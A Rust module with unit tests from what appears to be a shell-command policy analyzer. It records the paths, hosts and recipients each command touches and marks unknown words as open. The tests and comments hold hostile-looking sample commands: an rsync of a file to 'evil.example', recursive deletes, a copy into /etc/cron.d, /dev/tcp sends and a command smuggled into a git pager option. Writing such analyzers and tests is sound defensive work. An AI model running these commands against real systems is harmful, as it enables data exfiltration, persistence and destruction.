//! The operands of a command: what it reads, writes, removes and sends to, and whether every word of it is known.
//!
//! A command is complete if its program has a row in `data/covered.toml` and the row knows every word. Any other
//! command is open; its literal words are named operands, so that a restriction still finds them. A word of unknown
//! value may be anything.

use std::borrow::Cow;
use std::sync::LazyLock;

use regex::Regex;
use rulekeep_types::facts::{Cause, Doing, Kind, Kinds, Open, Operand, Role, host_of};
use rulekeep_types::{Action, Capability, Operation, Resource, RiskLevel, TargetKind};

use crate::format::dangers;
use crate::programs::Program;
use crate::reading::{Act, add_open, add_operand};
use crate::target;

use super::covered::{Covering, Plain, is_builtin, rows, runs_folder, stays};
use super::folders::Folders;
use super::word::Word;
use super::{Shell, View, base_name};

/// The words that another program appends to a command.
#[derive(Debug, Clone)]
pub(super) enum Appended {
    /// Paths at or below these.
    Below(Vec<Word>),
    Unknown,
}

impl Shell<'_, '_> {
    /// Records the operands of a command that runs no other.
    pub(super) fn cover(&mut self, name: &str, arguments: View<'_>) {
        if name == "git"
            && let ["-C", _, ..] = arguments.texts
        {
            let folders = self.folders.clone();
            self.go_on_in(arguments.words.get(1));
            self.cover(name, arguments.from(2));
            self.folders = folders;
            return;
        }
        let sub = arguments.texts.first().map(|sub| format!("{name} {sub}"));
        let by_sub = sub.as_ref().and_then(|sub| rows().get(sub.as_str()));
        let (row, arguments) = match by_sub {
            Some(row) => (Some(row), arguments.from(1)),
            None => (rows().get(name), arguments),
        };
        if is_builtin(name) {
            return;
        }
        if self.lexicon.programs.get(name).is_some_and(Program::has_subcommands) {
            let first = arguments.words.iter().find(|word| !word.text.starts_with('-'));
            let is_known = first.map_or(self.appended.is_none(), |word| !word.dynamic && !word.wild);
            if !is_known {
                // Which subcommand runs is not known.
                self.open(Cause::Text, Kinds::of(&[Kind::Command]), first.map_or(name, |word| &word.text));
            }
        }
        let Some(row) = row.cloned() else {
            if matches!(name, "popd" | "dirs") {
                self.folders = Folders::Unknown;
            }
            let is_script = |operand: &Operand| operand.role == Role::Run && stays(&operand.value);
            let runs_script = self.reading.current_step().is_some_and(|step| step.operands.iter().any(is_script));
            let cause = self.code_of(runs_script || runs_folder(name, arguments.words));
            self.open(cause, Kinds::OPERANDS, name);
            self.mounts(arguments.words);
            arguments.words.iter().for_each(|word| self.leftover(word));
            return self.appended_to(None);
        };
        if row.runs {
            let cause = self.code_of(true);
            self.open(cause, Kinds::OPERANDS, sub.as_deref().unwrap_or(name));
        }
        if row.plain == [Plain::Words] {
            self.appended = None;
            return;
        }
        // A test shows at most whether something is there.
        let is_test = matches!(name, "test" | "[" | "[[");
        let words = if is_test {
            Cow::Owned(arguments.words.iter().filter(|word| !word.dynamic).cloned().collect::<Vec<Word>>())
        } else {
            Cow::Borrowed(arguments.words)
        };
        let covering = Covering::of(&row, &words);
        for word in &covering.unknown {
            self.open(Cause::Execution, Kinds::OPERANDS, &word.text);
            self.leftover(word);
        }
        let is_unsure = !covering.unknown.is_empty();
        if is_unsure {
            // An unknown option may change what the other words are.
            covering.plain.iter().for_each(|word| self.leftover(word));
        }
        for (word, role, is_tree) in &covering.paths {
            self.path(word, *role, *is_tree);
        }
        let is_tree = covering.is_tree || row.is_tree || is_unsure;
        let mut kinds = row.plain.as_slice();
        if covering.has_text
            && let [Plain::Text | Plain::Script, rest @ ..] = kinds
        {
            kinds = rest;
        }
        let count = covering.plain.len();
        for (place, word) in covering.plain.iter().enumerate() {
            let Some(kind) = kinds.get(place).or(kinds.last()) else { break };
            let is_last = place + 1 == count && count > 1 && covering.folder().is_none();
            self.plain(word, *kind, is_tree, is_last, covering.becomes);
        }
        let needed = kinds.iter().filter(|kind| **kind == Plain::Text).count();
        if row.is_here
            && count <= needed
            && self.fed_by.is_none()
            && self.appended.is_none()
            && (is_tree || needed == 0)
        {
            // Without an operand the program reads the folder in which it runs.
            self.path(&here(), if needed == 0 { Role::Named } else { Role::Read }, is_tree);
        }
        if count == 0 && kinds.last() == Some(&Plain::Recipient) {
            // `sendmail -t` takes them from its input.
            self.open(Cause::Text, Kinds::of(&[Kind::Recipient]), name);
        }
        if row.saves && covering.folder().is_none() {
            self.path(&here(), Role::Write, true);
        }
        self.put_into(&covering, kinds, is_tree);
        self.appended_to(kinds.last().map(|kind| (*kind, is_tree, covering.becomes)));
        match (name, covering.plain.first()) {
            ("pushd", None) => self.folders = Folders::Unknown,
            ("pushd", Some(word)) if word.text.starts_with('+') => self.folders = Folders::Unknown,
            ("cd" | "pushd", to) => self.change_folder(to),
            _ => {}
        }
    }

    /// Records what a copy puts into a folder: each source by its name.
    fn put_into(&mut self, covering: &Covering<'_>, kinds: &[Plain], is_tree: bool) {
        if !kinds.iter().all(|kind| matches!(kind, Plain::Copy | Plain::Move)) {
            return;
        }
        let (folder, sources) = match (covering.folder(), covering.plain.split_last()) {
            (Some(folder), _) => (folder, covering.plain.as_slice()),
            (None, Some((folder, sources))) if !sources.is_empty() => (folder, sources),
            _ => return,
        };
        for source in sources.iter().filter(|source| !source.dynamic || known_path(source).is_some()) {
            let name = source.text.trim_end_matches('/').rsplit('/').next().unwrap_or_default();
            if matches!(name, "" | "." | "..") {
                continue;
            }
            let text = format!("{}/{name}", folder.text.trim_end_matches('/'));
            self.destination(&Word { text, wild: folder.wild || source.wild, ..folder.clone() }, is_tree);
        }
    }

    /// Records the folders that a container gets: `-v /srv:/data`.
    fn mounts(&mut self, words: &[Word]) {
        for pair in words.windows(2) {
            if let [option, value] = pair
                && MOUNTS.contains(&option.text.as_str())
                && let Some((source, _)) = value.text.split_once(':')
            {
                self.path(&Word { text: source.to_owned(), ..value.clone() }, Role::Read, true);
            }
        }
    }

    fn plain(&mut self, word: &Word, kind: Plain, is_tree: bool, is_last: bool, becomes: Option<Role>) {
        match kind {
            Plain::Text | Plain::Words | Plain::Mode | Plain::Tar => {}
            Plain::Script => {
                if !is_plain_script(&word.text) {
                    self.open(Cause::Execution, Kinds::OPERANDS, &word.text);
                    self.leftover(word);
                }
            }
            Plain::Read => self.path(word, becomes.unwrap_or(Role::Read), is_tree),
            Plain::Write => self.path(word, Role::Write, is_tree),
            Plain::Remove => self.path(word, Role::Remove, is_tree),
            Plain::Named => self.path(word, becomes.unwrap_or(Role::Named), is_tree),
            Plain::Find => self.path(word, becomes.unwrap_or(Role::Named), true),
            Plain::Copy | Plain::Move if is_last => self.destination(word, is_tree),
            Plain::Copy => self.destination_or(word, Role::Read, is_tree),
            Plain::Move => self.destination_or(word, Role::Remove, is_tree),
            Plain::Url => self.url(word),
            Plain::Recipient => {
                if word.dynamic {
                    self.open(Cause::Text, Kinds::of(&[Kind::Recipient]), &word.text);
                } else {
                    let value = target::plain(TargetKind::Recipient, &word.text);
                    self.operand(Operand::new(Kind::Recipient, Role::SendTo, value, &word.text));
                }
            }
            Plain::Dd => match word.text.split_once('=') {
                Some(("if", _)) => self.path(&behind(word, 3), Role::Read, false),
                Some(("of", _)) => self.path(&behind(word, 3), Role::Write, false),
                Some(("bs" | "count" | "skip" | "seek" | "status" | "conv", _)) if !word.dynamic => {}
                _ => {
                    self.open(Cause::Execution, Kinds::OPERANDS, &word.text);
                    self.leftover(word);
                }
            },
        }
    }

    fn destination(&mut self, word: &Word, is_tree: bool) {
        self.destination_or(word, Role::Write, is_tree);
    }

    /// A path, which may be on another host: `ann@host:path`.
    fn destination_or(&mut self, word: &Word, role: Role, is_tree: bool) {
        match word.text.split_once(':') {
            Some((_, path)) if path.starts_with("//") => self.url(word),
            Some((host, path)) if !host.contains('/') && !host.is_empty() => {
                self.host(&Word { text: host.to_owned(), ..word.clone() }, Role::SendTo);
                self.open(Cause::Execution, Kinds::of(&[Kind::Path]), path);
            }
            _ => self.path(word, role, is_tree),
        }
    }

    /// Records the words that another program appends to a command whose last operands are of a kind.
    fn appended_to(&mut self, last: Option<(Plain, bool, Option<Role>)>) {
        let Some(appended) = self.appended.take() else { return };
        let kinds = match last {
            Some((Plain::Text | Plain::Mode, ..)) => return,
            Some((Plain::Url, ..)) => Kinds::of(&[Kind::Host, Kind::Url, Kind::Path]),
            Some((Plain::Recipient, ..)) => Kinds::of(&[Kind::Recipient]),
            Some(_) => Kinds::of(&[Kind::Path]),
            None => Kinds::OPERANDS,
        };
        match appended {
            Appended::Unknown => self.open(Cause::Text, kinds, "what is appended"),
            Appended::Below(roots) => {
                for root in &roots {
                    match last {
                        Some((kind, _, becomes)) => self.plain(root, kind, true, false, becomes),
                        None => self.path(root, Role::Named, true),
                    }
                }
            }
        }
    }

    /// Records a redirection as an act of its own. Returns the place that it leads to.
    pub(super) fn redirected(&mut self, word: &Word, role: Role) {
        if is_no_place(&word.text) {
            return;
        }
        let outer = self.reading.begin_step();
        self.path(word, role, false);
        if role == Role::Read {
            // What is read is asked for like any other; what is written is judged where it leads.
            let act = Act::new("read", "file", Resource::File, Operation::Read, 0.9).at_risk(RiskLevel::Low);
            self.reading.push(act.told_by("<").named_by(&word.text));
        } else if let (Ok(action), Some(step)) = ("write_file".parse::<Action>(), self.reading.current_step()) {
            step.does.push(Doing::new(action, Capability::new(Resource::File, Operation::Write), RiskLevel::Low));
        }
        self.reading.end_step(outer);
    }

    /// Records a path, from each folder that it may start from.
    pub(super) fn path(&mut self, word: &Word, role: Role, is_tree: bool) {
        let text = word.text.as_str();
        if is_no_place(text) {
            return;
        }
        if text.contains("{}")
            && let Some(roots) = self.roots.clone()
        {
            // Of `find`: whatever was found.
            if roots.is_empty() {
                return self.open(Cause::Text, Kinds::of(&[Kind::Path]), text);
            }
            for root in &roots {
                self.path(root, role, true);
            }
            return;
        }
        if let Some(rest) = text.strip_prefix("/dev/tcp/").or_else(|| text.strip_prefix("/dev/udp/")) {
            return self.host(&Word { text: rest.to_owned(), ..word.clone() }, Role::SendTo);
        }
        let Some(path) = known_path(word) else {
            let values = self.looped(word);
            if values.is_empty() {
                return self.open(Cause::Text, Kinds::of(&[Kind::Path]), text);
            }
            return values.iter().for_each(|value| self.path(value, role, is_tree));
        };
        let is_absolute = path.starts_with(['/', '~']);
        let folders = match &self.folders {
            Folders::OneOf(folders) if !is_absolute => folders.clone(),
            Folders::Unknown if !is_absolute => {
                return self.open(Cause::Text, Kinds::of(&[Kind::Path]), text);
            }
            _ => vec![String::new()],
        };
        for folder in folders {
            let whole = if folder.is_empty() { path.clone() } else { format!("{folder}/{path}") };
            let value = target::resolved_path(&whole);
            if !folder.is_empty() {
                self.resolved(&value, role);
            }
            self.operand(Operand::new(Kind::Path, role, value, text).as_tree(is_tree).as_pattern(word.wild));
        }
    }

    /// The values of a word that contains the variable of a loop; none if it is no such word, or has too many.
    fn looped(&self, word: &Word) -> Vec<Word> {
        let is_end = |c: char| !(c.is_ascii_alphanumeric() || c == '_');
        let Some((before, rest)) = word.text.split_once('$') else { return Vec::new() };
        let (name, behind) = rest.split_at(rest.find(is_end).unwrap_or(rest.len()));
        let Some(values) = self.loops.get(name).filter(|values| values.len() <= MOST_LOOPED) else { return Vec::new() };
        let filled = |value: &Word| {
            let text = format!("{before}{}{behind}", value.text);
            // INVARIANT: a value has no variable of its own, so a word that contains another one stays unknown.
            let dynamic = value.dynamic || behind.contains('$');
            Word { text, dynamic, wild: word.wild || value.wild, ..word.clone() }
        };
        values
            .iter()
            .filter(|value| !value.dynamic)
            .map(filled)
            .chain(values.iter().filter(|value| value.dynamic).map(|_| Word {
                text: "$".to_owned(),
                dynamic: true,
                ..word.clone()
            }))
            .collect()
    }

    /// Judges a path that only the change of the folder completes.
    fn resolved(&mut self, path: &str, role: Role) {
        match role {
            Role::Write | Role::Remove => self.written(path),
            Role::Read | Role::Named | Role::SendTo | Role::Run | Role::Pay => self.file(path),
        }
    }

    fn host(&mut self, word: &Word, role: Role) {
        match host_of(&word.text) {
            Some(host) if !word.dynamic && !target::is_open(TargetKind::Host, &word.text) => {
                self.operand(Operand::new(Kind::Host, role, host, &word.text));
            }
            _ => self.open(Cause::Text, Kinds::of(&[Kind::Host]), &word.text),
        }
    }

    fn url(&mut self, word: &Word) {
        if word.dynamic {
            return self.open(Cause::Text, Kinds::of(&[Kind::Host, Kind::Url, Kind::Path]), &word.text);
        }
        if let Some(path) = target::file_path(&word.text) {
            return self.path(&Word { text: path.to_owned(), ..word.clone() }, Role::Read, false);
        }
        let value = target::plain(TargetKind::Host, &word.text);
        self.operand(Operand::new(Kind::Url, Role::Read, value, &word.text));
        self.host(word, Role::Read);
    }

    /// Reads a value of unknown meaning that is a command line: `git -c pager.log='rm -rf a' log` runs it.
    pub(super) fn value_command(&mut self, value: &str) {
        let line = value.trim_start_matches('!');
        if line.contains(char::is_whitespace) && super::form::is_command(line, self.lexicon) {
            self.line(line, self.depth + 1);
        }
    }

    /// Records a word of unknown meaning: whatever its value can name.
    pub(super) fn leftover(&mut self, word: &Word) {
        let is_key = |key: &str| key.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte));
        if let Some((_, value)) = word.text.split_once('=').filter(|(key, _)| is_key(key)) {
            self.value_command(value);
        }
        if word.dynamic && known_path(word).is_none() {
            self.open(Cause::Text, Kinds::OPERANDS, &word.text);
        }
        let text = word.text.as_str();
        for piece in pieces(text) {
            let piece = Word { text: piece.to_owned(), ..word.clone() };
            if piece.text.contains("://") {
                self.url(&piece);
            } else if target::is_mailbox(&piece.text) {
                let value = target::plain(TargetKind::Recipient, &piece.text);
                self.operand(Operand::new(Kind::Recipient, Role::Named, value, &piece.text));
                self.path(&piece, Role::Named, false);
            } else if known_path(&piece).is_some() {
                self.path(&piece, Role::Named, false);
            }
        }
        for host in target::hosts_in(text) {
            self.operand(Operand::new(Kind::Host, Role::Named, host, text));
        }
    }

    /// Records that the step is open.
    pub(super) fn open(&mut self, cause: Cause, kinds: Kinds, found: &str) {
        let end = (0..=found.len().min(LONGEST_FOUND)).rev().find(|&end| found.is_char_boundary(end)).unwrap_or(0);
        let found = found.get(..end).unwrap_or_default().to_owned();
        if let Some(step) = self.reading.current_step() {
            add_open(step, Open::new(cause, kinds, found));
        }
    }

    fn operand(&mut self, operand: Operand) {
        if let Some(step) = self.reading.current_step() {
            add_operand(step, operand);
        }
    }

    /// Reads what a wrapper's own words say of the command behind them.
    pub(super) fn cover_wrapper(&mut self, name: &str, own: View<'_>) {
        let name = base_name(name);
        if matches!(name, "xargs" | "parallel" | "gxargs" | "rush") {
            self.appended = Some(self.fed_by.clone().unwrap_or(Appended::Unknown));
            let mark = own.texts.iter().enumerate().find_map(|(place, text)| {
                let joined = text.strip_prefix("-I").or_else(|| text.strip_prefix("--replace="))?;
                Some(if joined.is_empty() { own.texts.get(place + 1).copied().unwrap_or("{}") } else { joined })
            });
            self.placeholder = Some(mark.filter(|mark| !mark.is_empty()).unwrap_or("{}").to_owned());
        }
        let leaves = dangers::holds("root_wrappers", name) || dangers::holds("remote_wrappers", name);
        self.is_elsewhere |= leaves || matches!(name, "chroot" | "nsenter" | "unshare" | "machinectl" | "wsl");
        self.mounts(own.words);
        let mut words = own.words.iter().peekable();
        while let Some(word) = words.next() {
            let folder = match word.text.as_str() {
                "-C" | "--chdir" | "-D" | "--directory" if matches!(name, "env" | "sudo" | "nice" | "systemd-run") => {
                    words.peek().map(|next| (*next).clone())
                }
                text if text.starts_with("--chdir=") => Some(behind(word, 8)),
                _ => None,
            };
            if let Some(folder) = folder {
                self.go_on_in(Some(&folder));
            }
            self.leftover(word);
        }
    }

    /// Records a program that is called by its place, unless that is a folder of the system's programs.
    pub(super) fn note_program(&mut self, word: &Word) {
        let text = word.text.as_str();
        let folder = text.rsplit_once('/').map(|(folder, _)| folder);
        if folder.is_some_and(|folder| !PROGRAMS.contains(&folder)) && !word.dynamic {
            self.path(word, Role::Run, false);
        }
    }

    /// The places that `find` and the like start from.
    pub(super) fn producer_of(name: &str, arguments: View<'_>) -> Appended {
        let name = Word { text: name.to_owned(), ..Word::default() };
        Self::producer(&std::iter::once(name).chain(arguments.words.iter().cloned()).collect::<Vec<_>>())
    }

    /// The paths that a command of a pipe prints: those below the roots of `find`, `ls` and the like.
    pub(super) fn producer(words: &[Word]) -> Appended {
        let texts: Vec<&str> = words.iter().map(|word| word.text.as_str()).collect();
        let (name, skip) = match texts.as_slice() {
            ["git", "ls-files", ..] => ("ls", 2),
            [name, ..] => (base_name(name), 1),
            [] => return Appended::Unknown,
        };
        if !matches!(name, "find" | "gfind" | "bfs" | "ls" | "fd" | "fdfind") {
            return Appended::Unknown;
        }
        let rest = words.get(skip..).unwrap_or_default();
        let finds = matches!(name, "find" | "gfind" | "bfs");
        let roots = rest.iter().take_while(|word| !finds || !word.text.starts_with(['-', '(', '!']));
        let mut roots: Vec<Word> = roots.filter(|word| !word.text.starts_with('-')).cloned().collect();
        if name.starts_with("fd") {
            // The first word is the pattern.
            roots = roots.into_iter().skip(1).collect();
        }
        if roots.is_empty() {
            roots.push(here());
        }
        Appended::Below(roots)
    }
}

/// Returns whether a path stands for no file that is kept.
fn is_no_place(path: &str) -> bool {
    matches!(path, "" | "-" | "/dev/null" | "/dev/stdin" | "/dev/stdout" | "/dev/stderr")
}

/// The folder in which a command runs.
pub(super) fn here() -> Word {
    Word { text: ".".to_owned(), ..Word::default() }
}

/// The rest of a word behind some bytes.
pub(super) fn behind(word: &Word, bytes: usize) -> Word {
    Word { text: word.text.get(bytes..).unwrap_or_default().to_owned(), ..word.clone() }
}

/// The path of a word, with the home folder as `~`; `None` if its value is not known.
pub(super) fn known_path(word: &Word) -> Option<String> {
    let mut text = word.text.as_str();
    if let Some(path) = target::file_path(text) {
        text = path;
    }
    if text.starts_with("~+") || text.starts_with("~-") && !word.quoted {
        return None;
    }
    let rest = text.strip_prefix("/proc/self/cwd/").unwrap_or(text);
    if !word.dynamic {
        return Some(rest.to_owned());
    }
    let below = |names: [&str; 2]| {
        let rest = names.iter().find_map(|name| text.strip_prefix(name))?;
        (rest.is_empty() || rest.starts_with('/')).then_some(rest).filter(|rest| !rest.contains(['$', '`']))
    };
    if let Some(rest) = below(["$HOME", "${HOME}"]) {
        return Some(format!("~{rest}"));
    }
    below(["$PWD", "${PWD}"]).map(|rest| format!(".{rest}"))
}

/// The parts of a word that can be a path or an address: the word, and what stands behind `=`, `:`, `@` or an
/// option's letter; of a text, the words in it that look like one.
fn pieces(text: &str) -> Vec<&str> {
    let mut pieces: Vec<&str> = Vec::new();
    if text.contains(char::is_whitespace) {
        let parts =
            text.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')' | ',' | ';' | '='));
        pieces.extend(parts.filter(|part| part.contains('/') && part.len() > 1).take(MOST_PIECES));
        return pieces;
    }
    let bare = text.trim_start_matches('-');
    if bare.len() == text.len() {
        pieces.push(text);
    } else if text.len() - bare.len() == 1 {
        // "-C/etc": what stands behind the letter.
        pieces.extend(bare.char_indices().nth(1).and_then(|(at, _)| bare.get(at..)));
    }
    if !text.contains("://") {
        let marks = text.match_indices(['=', ':', '@', ',']).take(MOST_PIECES);
        for (at, _) in marks {
            let rest = text.get(at + 1..).unwrap_or_default();
            let end = rest.find([':', ',']).unwrap_or(rest.len());
            pieces.extend(rest.get(..end).filter(|piece| !piece.is_empty()));
        }
        pieces.extend(text.split_once(':').map(|(before, _)| before).filter(|before| before.contains('/')));
    } else if let Some((_, url)) = text.split_once('=').filter(|(before, _)| !before.contains("://")) {
        pieces.push(url);
    }
    pieces
}

/// Returns whether a script of `sed` only prints or substitutes.
fn is_plain_script(script: &str) -> bool {
    static PLAIN: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(r"^(?:[0-9$,]*[pdq]|[0-9$,]*s(?:/[^/]*/[^/]*/|\|[^|]*\|[^|]*\||#[^#]*#[^#]*#)[gip0-9]*)$").ok()
    });
    PLAIN.as_ref().is_some_and(|plain| plain.is_match(script))
}

/// Folders of the system's programs.
const PROGRAMS: &[&str] =
    &["/bin", "/usr/bin", "/usr/local/bin", "/sbin", "/usr/sbin", "/usr/local/sbin", "/opt/homebrew/bin"];
/// Options whose value is a folder that the program makes available elsewhere.
const MOUNTS: &[&str] = &["-v", "--volume", "-B", "--bind"];
/// Maximum number of values of a loop that are followed.
const MOST_LOOPED: usize = 64;
/// Maximum number of parts of a word that are recorded.
const MOST_PIECES: usize = 8;
/// Maximum length of a quoted part, in bytes.
const LONGEST_FOUND: usize = 120;

#[cfg(test)]
mod tests {
    use super::*;

    /// The operands of a line as `role kind value`, with `+` for a tree and `~` for a pattern, and `OPEN kind` for
    /// what was not read.
    fn covered(line: &str) -> Vec<String> {
        let lexicon = crate::lexicon::Lexicon::shared().unwrap();
        let mut reading = super::super::read(line, &lexicon);
        reading.seal();
        let mut found = Vec::new();
        for step in &reading.steps {
            for Operand { kind, role, value, tree, pattern, .. } in &step.operands {
                let marks = format!("{}{}", if *tree { "+" } else { "" }, if *pattern { "~" } else { "" });
                found.push(format!("{role} {kind} {value}{marks}"));
            }
            let opens = step.open.iter().map(|open| open.cause);
            found.extend(opens.map(|cause| format!("OPEN {cause}")));
        }
        found.dedup();
        found
    }

    #[test]
    fn every_word_of_a_covered_program_is_an_operand_or_known() {
        for (line, expected) in [
            ("cat -n a b", &["read path a", "read path b"][..]),
            ("cat 'a b' -- -n", &["read path a b", "read path -n"]),
            ("rm -rf /tmp/x src", &["remove path /tmp/x+", "remove path src+"]),
            ("rm *.o", &["remove path *.o~"]),
            ("cp -r a b c", &["read path a+", "read path b+", "write path c+", "write path c/a+", "write path c/b+"]),
            ("mv a b", &["remove path a+", "write path b+", "write path b/a+"]),
            ("cp -t /etc/cron.d x", &["write path /etc/cron.d", "read path x", "write path /etc/cron.d/x"]),
            ("grep -rn TODO src", &["read path src+"]),
            ("grep -e x a", &["read path a"]),
            ("sed -n 1,20p a", &["read path a"]),
            ("sed -i s/a/b/ a", &["write path a"]),
            ("find src -name '*.o' -delete", &["remove path src+"]),
            ("tar -cf x.tar /srv", &["write path x.tar", "read path /srv+"]),
            ("dd if=a of=b bs=1M", &["read path a", "write path b"]),
            ("sort -o out in", &["write path out", "read path in"]),
            ("echo rm -rf x", &[]),
            ("cat < a > b", &["write path b", "read path a"]),
            (
                "curl -sLo x https://a.example/y",
                &["write path x", "read url https://a.example/y", "read host a.example"],
            ),
            ("cp -t /tmp a", &["write path /tmp", "read path a", "write path /tmp/a"]),
            ("mv -t /tmp a", &["write path /tmp", "remove path a+", "write path /tmp/a+"]),
            ("grep -v -f /dev/null /srv/a", &["read path /srv/a"]),
            ("grep -T x /srv/a", &["read path /srv/a"]),
            ("chmod -777 /srv/a", &["write path /srv/a"]),
            ("chmod -rwx /srv/a", &["write path /srv/a"]),
            ("git -C /srv rm a", &["remove path /srv/a"]),
            ("cat a 2>/dev/null", &["read path a"]),
            ("mail -s x ann@a.example eve", &["send_to recipient ann@a.example", "send_to recipient eve"]),
        ] {
            assert_eq!(covered(line), expected, "{line}");
        }
    }

    #[test]
    fn a_path_is_the_same_from_whatever_folder_it_is_written() {
        for line in [
            "cd /srv && cat secret/a",
            "cd /srv && pushd /tmp && popd && cat secret/a",
            "eval 'cd /srv' && cat secret/a",
            "git -C /srv show secret/a",
            "grep --regex=x /srv/secret/a",
            "pushd /srv && cat ./secret//a",
            "env -C /srv cat secret/a",
            "sh -c 'cd /srv && cat secret/a'",
            "cat /srv/x/../secret/a",
            "cat /proc/self/root/srv/secret/a",
            "cat file:///srv/secret/a",
            "D=/srv; cat $D/secret/a",
            "for f in a b; do cat /srv/secret/$f; done",
            "echo /srv/secret/a | xargs cat",
            "mytool --input=/srv/secret/a",
            "mytool -i/srv/secret/a",
            "python3 -c \"open('/srv/secret/a')\"",
        ] {
            let found = covered(line);
            let is_named = found.iter().any(|operand| operand.ends_with(" path /srv/secret/a"));
            assert!(is_named || found.contains(&"OPEN text".to_owned()), "{line}: {found:?}");
        }
        assert_eq!(covered("cat ~/a $HOME/b"), ["read path ~/a", "read path ~/b"]);
    }

    #[test]
    fn what_no_row_knows_leaves_the_command_open() {
        for line in [
            "cat --frobnicate a",
            "rm $X",
            "mytool a",
            "xargs cat < list",
            "xargs curl < list",
            "tar xf a.tar",
            "tar -cfv /srv",
            "sed e a",
            "$CMD a",
            "sendmail -t",
            "curl 'http://{evil,x}.example'",
        ] {
            assert!(covered(line).iter().any(|found| found.starts_with("OPEN")), "{line}: {:?}", covered(line));
        }
        assert!(covered("gfind /srv -exec cat {} +").contains(&"read path /srv+".to_owned()));
        assert!(covered("rm --recurs -f /srv").contains(&"remove path /srv+".to_owned()));
        assert!(covered("rsync a rsync://evil.example/y").contains(&"read host evil.example".to_owned()));
        assert_eq!(covered("wget -q https://a.example/y")[2..], ["write path .+"]);
        assert_eq!(covered("find src -name x | xargs rm"), ["named path src+", "remove path src+"]);
        assert_eq!(covered("xargs echo < list"), ["read path list"]);
    }
}
